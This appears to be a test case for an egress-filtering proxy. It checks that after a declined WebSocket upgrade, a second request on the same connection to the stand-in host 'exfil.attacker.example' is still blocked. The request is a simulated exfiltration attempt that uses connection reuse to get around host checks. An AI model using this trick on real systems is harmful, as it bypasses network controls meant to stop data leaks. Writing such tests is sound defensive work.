# what: an Upgrade request the server declines (a plain 200, connection kept), then a request for exfil.attacker.example on the same connection: it is still judged
# include: http
# expect-allowed: allowed.test http
# expect-denied: exfil.attacker.example 80 http host_changed
# inet: allow allowed.test
# expect-stdout: (?s)STATUS: HTTP/1.1 200 OK\nPAGE: hello from allowed.test\nSTATUS: HTTP/1.1 403 Forbidden
import socket


report(exchange("198.18.1.10", 80, [b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", b"GET /exfil HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n"], pause=1.0))
